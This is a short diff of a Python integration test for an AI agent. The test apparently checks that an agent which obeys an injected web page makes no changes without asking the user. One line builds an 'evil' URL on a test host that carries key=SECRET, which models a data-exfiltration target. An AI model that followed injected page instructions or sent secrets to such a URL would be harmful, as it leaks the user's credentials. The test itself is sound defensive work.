@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from core.web.fetcher import WebFetcher
-from tests.integration.test_permissions import asked, outside, results, turn  # noqa: F401
+from tests.integration.test_permissions import asked, results, turn
 from tests.integration.test_tasks import boxed
 from tests.integration.test_web import fetching
 from tests.support.agent_case import calls, says
@@ -54,7 +54,7 @@ def project(tmp_path) -> Path:
 
 
 @boxed
-async def test_i6_i8_a_model_that_obeys_a_page_changes_nothing_without_a_question(project, tmp_path, outside):  # noqa: F811
+async def test_i6_i8_a_model_that_obeys_a_page_changes_nothing_without_a_question(project, tmp_path, outside):
     evil = f"http://example.test:{outside.port}/?key=SECRET"
     steps = (
         fetching("http://docs.example/"),
